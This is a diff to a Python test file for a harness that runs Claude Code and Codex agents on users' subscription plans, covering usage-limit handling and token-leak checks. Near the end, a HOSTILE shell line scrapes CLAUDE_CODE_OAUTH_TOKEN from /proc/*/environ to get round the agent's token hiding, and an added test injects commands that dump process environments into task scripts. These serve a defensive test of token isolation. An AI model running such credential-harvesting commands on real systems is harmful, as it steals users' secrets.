@@ -21,7 +21,8 @@ from click.testing import CliRunner
 
 from harnesses.accounts.chatgpt import ChatGptAccount
 from harnesses.accounts.vault import AccountError
-from harnesses.base import Status
+from harnesses.base import ModelSpec, Status
+from harnesses.gateway.gateway import Gateway
 from harnesses.gateway.plan_upstreams import PlanError
 from skillopt import evaluate, train
 from skillopt.cli import main
@@ -29,9 +30,13 @@ from skillopt.config.loading import ConfigError
 from skillopt.config.schema import Config
 from skillopt.core.errors import PausedError
 from skillopt.core.types import Rollout
+from skillopt.optimizer.replies import Ranking
+from skillopt.rollouts.questions import Questions
+from skillopt.rollouts.upstreams import open_upstream
 from skillopt.run.events import Event
 from skillopt.run.records import Noted, PlanUsed
-from skillopt.run.spending import LimitReachedError
+from skillopt.run.spending import LimitReachedError, Meter
+from skillopt.training.optimizer_model import GatewayModel
 from tests.helpers.cells import ALL_CELLS
 from tests.helpers.small import small_config
 from tests.services.a_task import config, more_tasks
@@ -241,6 +246,37 @@ def test_a_limit_that_resets_is_waited_for(
     assert told[0].name == "plan" and told[0].exhausted
 
 
+@pytest.mark.parametrize("headers", [True, False])
+def test_codexs_own_limit_is_read_in_headers_and_bodies(
+    headers: bool, service: Service, tokens: Tokens, tmp_path: Path
+) -> None:
+    """As ChatGPT's Codex backend tells it."""
+
+    def scenario(asked: Asked) -> Answer:
+        if asked.number > 1:
+            return agent(asked)
+        error = {
+            "type": "usage_limit_reached", "message": "The usage limit has been reached",
+            "plan_type": "plus", "resets_in_seconds": 1, "resets_at": time.time() + 1,
+        }  # fmt: skip
+        told = {
+            "x-codex-primary-used-percent": "100", "x-codex-primary-window-minutes": "300",
+            "x-codex-primary-reset-after-seconds": "1", "retry-after": "0",
+            "x-codex-secondary-used-percent": "37", "x-codex-secondary-window-minutes": "10080",
+        }  # fmt: skip
+        raw = json.dumps({"error": error}).encode()
+        return Answer(429, raw, headers=told if headers else {})
+
+    service.scenario = chatgpt(scenario, tokens)
+    seen: list[Event] = []
+    (rollout,) = ran(on_chatgpt(tmp_path, service, patience=30), [seen.append])
+    assert rollout.reward.hard and rollout.service_s >= 1
+    assert service.times[1] - service.times[0] >= 1
+    first = next(event.windows for event in seen if isinstance(event, PlanUsed))
+    names = ["five_hour", "seven_day"] if headers else ["plan"]
+    assert [window.name for window in first] == names and first[0].exhausted
+
+
 @pytest.mark.slow
 def test_a_training_on_a_plan_ends_the_same_with_and_without_limits(
     service: Service, tokens: Tokens, tmp_path: Path, home: Path
@@ -318,6 +354,40 @@ def test_claude_code_on_its_users_plan(service: Service, tmp_path: Path, home: P
     assert not any(isinstance(e, Noted) and e.text == terms for e in again), "told once"
 
 
+@pytest.mark.engine
+def test_the_optimizer_by_claude_code_on_its_users_plan(
+    service: Service, tmp_path: Path, home: Path
+) -> None:
+    order = '{"reasoning": "r", "order": [2, 1]}'
+
+    def scenario(asked: Asked) -> Answer:
+        return reply(asked, Said(calls=[("toolu_1", "StructuredOutput", order)]))
+
+    service.scenario = claude(scenario, Window(100, 3600))
+    asks = {"upstream": "up", "name": "m", "harness": "claude-code"}
+    settings = on_claude(tmp_path, service, target=SIM, optimizer=asks)
+    with (
+        open_upstream(settings.upstreams["up"]) as upstream,
+        Gateway({"up": upstream}, tmp_path / "s", lambda *_: None) as gateway,
+    ):
+        questions = Questions(settings, gateway)
+
+        def ask(program: str) -> Ranking:
+            model = GatewayModel(
+                gateway, ModelSpec("up", "m"), "1", 1, tmp_path, lambda event: None, Meter(), {},
+                open=questions.open, program=program,
+            )  # fmt: skip
+            return model.ask("rank", "2 edits", "be good", "rank them", Ranking)
+
+        assert ask(settings.caller("optimizer")).order == [2, 1]
+        with pytest.raises(PlanError, match="a Claude plan is for Claude Code itself"):
+            ask("direct")
+        questions.close()
+    (asked,) = service.asked
+    assert asked.headers["user-agent"].startswith("claude-cli/") and asked.bearer == CLAUDE_TOKEN
+    assert not leaks(tmp_path, home)
+
+
 HOSTILE = (
     # Claude Code hides the token from its tools, but not what the kernel tells.
     "T=$(cat /proc/*/environ | tr '\\0' '\\n' | sed -n s/^CLAUDE_CODE_OAUTH_TOKEN=//p | head -1);"
@@ -340,7 +410,13 @@ def test_a_hostile_task_leaves_the_token_nowhere(
         return reply(asked, said)
 
     service.scenario = claude(scenario, Window(100, 3600))
-    (rollout,) = ran(on_claude(tmp_path, service))
+    settings = on_claude(tmp_path, service)
+    for tests in tmp_path.glob("tasks/test/*/tests/test.sh"):
+        look = "env; cat /proc/*/environ /proc/*/cmdline; cat -- * */* 2>/dev/null\n"
+        tests.write_text(look + tests.read_text())
+    for image in tmp_path.glob("tasks/test/*/environment/Dockerfile"):
+        image.write_text(image.read_text() + "ENV ANTHROPIC_API_KEY=sk-x ANTHROPIC_AUTH_TOKEN=y\n")
+    (rollout,) = ran(settings)
     assert rollout.reward.hard, rollout.message
     seen = json.dumps(service.asked[-1].body)
     assert CLAUDE_TOKEN in seen, "the attack has worked inside the sandbox"
